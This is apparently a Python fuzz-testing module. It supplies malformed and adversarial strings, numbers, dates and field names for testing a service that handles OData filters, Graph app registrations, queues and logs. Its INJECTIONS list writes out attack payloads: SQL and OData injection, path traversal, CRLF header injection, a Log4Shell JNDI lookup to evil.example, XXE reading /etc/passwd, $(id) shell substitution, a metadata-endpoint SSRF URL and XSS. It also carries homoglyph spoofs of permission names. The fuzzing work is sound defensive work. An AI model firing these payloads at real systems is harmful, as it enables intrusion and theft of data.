"""Strings nobody should be sent: what goes wrong in URLs, filters, logs, keys, terminals and number parsers."""

import random

INJECTIONS = (
    "' or 1 eq 1",
    "' or uniqueName ne 'x",
    "x')/owners/$ref?$filter=(1 eq 1",
    "$filter=displayName eq 'a'",
    "a&$top=999&$expand=owners",
    "*",
    "../../servicePrincipals",
    "..%2f..%2fapplications",
    "%2e%2e/%2f",
    "a/../b",
    "https://evil.example/#@graph.microsoft.com",
    "http://169.254.169.254/metadata",
    "\r\nSet-Cookie: a=b",
    "a\r\nX-Injected: 1\r\n\r\n{}",
    "%0d%0aHost: evil.example",
    'a\n{"event": "operation.completed", "operation": "forged"}',
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b2J",
    "\x00",
    "a\x00b",
    "\b\b\b\x7f",
    "{0}{1}{__class__}",
    "%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "$(id)`id`",
    "<script>alert(1)</script>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "'; DROP TABLE operations; --",
    "PartitionKey eq 'a' or true",
    "a/b",
    "a\\b",
    "a#b",
    "a?b",
    "a\tb",
    "reg:0123456789abcdef0123456789abcdef x",
    "REG:x",
    "pending",
    "nul",
    "__proto__",
    "None",
    "NaN",
    "Yes",
    "1 year",
    "180 days",
    "R&amp;D",
    "http:&#x2F;&#x2F;localhost",
    "https://a.contoso.example/auth\\_cb",
    "[a.contoso.example|https://evil.example]",
    '{"type": "doc", "version": 1, "content": []}',
)
"""For OData, URLs, paths, headers, logs, terminals, templates, shells, XML, SQL and table keys; and what forms send."""

LOOKALIKES = (
    "\u0430dt-client",  # Cyrillic a
    "adt\u2010client",  # a hyphen that is none
    "\uff41\uff44\uff54",  # full width
    "adt\u200bclient",  # zero width space
    "adt\u00adclient",  # soft hyphen
    "\u202etneilc-tda",  # right-to-left override
    "\u2066adt\u2069",
    "adt-client\u0301",  # combining accent
    "\ufeffadt-client",
    "\u0131\u0307",  # dotless i with a dot
    "\u212a\u017f",  # Kelvin sign, long s: both fold to ASCII
    "\u2028\u2029\u0085",  # line separators
    "Microsoft Gr\u0430ph",
    "User.Re\u0430d",
    "Read.Write\u200d",
    "Azure Digital Twin\u0455",
    "\U0001f600" * 30,
    "\u0627\u0644\u0639",
    "\u1160\u3164",  # fillers that look like nothing
    "\u0000\u0001",
    "\ufffe\uffff",  # no characters at all
    "\u0660\u0661\u0662",  # digits, but not ours
    "e\u0301" * 40,
)

NUMBERS = (
    "0",
    "-1",
    "-0",
    "3651",
    "2147483648",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "1" + "0" * 100,
    "9" * 4299,
    "9" * 4301,
    "1e308",
    "1e309",
    "-1e309",
    "1e-400",
    "180.0",
    "180.5",
    "1.7976931348623157e309",
    "0.1" + "1" * 2000,
    "1E+2",
)
"""As they stand in JSON: Python would change some of them on the way."""

NO_NUMBERS = ("NaN", "Infinity", "-Infinity", "0x10", "01", "+1", "1_000", ".5", "5.", "1e", "--1", "\u0661")
"""Looks like numbers, and is not JSON."""

DATES = (
    "0000-00-00",
    "0001-01-01T00:00:00",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.9999999Z",
    "10000-01-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-11-23T25:61:61Z",
    "2026-11-23T00:00:00+99:99",
    "-271821-04-20T00:00:00Z",
    "now",
    "2026-11-23T10:00:00",
)

KNOWN_NAMES = (
    "schemaVersion",
    "requestId",
    "source",
    "action",
    "requestedBy",
    "owner",
    "application",
    "credentials",
    "uniqueName",
    "displayName",
    "apiPermissions",
    "api",
    "delegated",
    "name",
    "lifetimeDays",
    "__proto__",
    "constructor",
    "id",
    "Id",
    "InsertionTime",
    "DequeueCount",
    "PopReceipt",
    "sys",
    "queueTrigger",
    "operationId",
    "generation",
    "clientId",
    "tenantId",
    "answer",
    "state",
    "keyVaultUrl",
    "$schema",
    "@odata.type",
    "",
    " requestId",
    "requestID",
    "unique_name",
    "requested_by",
)
"""Field names with a meaning somewhere: in the contract, in the host's binding data, in our records, in OData."""


def nasty(dice: random.Random) -> str:
    """Draw one bad string: an injection, a look-alike, a date, something long, or arbitrary code points."""
    match dice.randrange(8):
        case 0 | 1 | 2:
            return dice.choice(INJECTIONS)
        case 3:
            return dice.choice(LOOKALIKES)
        case 4:
            return dice.choice(DATES)
        case 5:
            return dice.choice("aä\u202e\U0001f600'\"/\\#?%\n\x1b") * dice.choice((1, 41, 65, 81, 121, 255, 257, 3000))
        case 6:
            return dice.choice(INJECTIONS) + dice.choice(LOOKALIKES)
        case _:
            return "".join(chr(_code_point(dice)) for _ in range(dice.randrange(1, 40)))


def _code_point(dice: random.Random) -> int:
    """Any code point, surrogates too: JSON can spell them (RFC 8259, section 8.2), UTF-8 cannot."""
    return dice.choice(
        (dice.randrange(0x20), dice.randrange(0x250), dice.randrange(0xD800, 0xE000), dice.randrange(0x110000))
    )
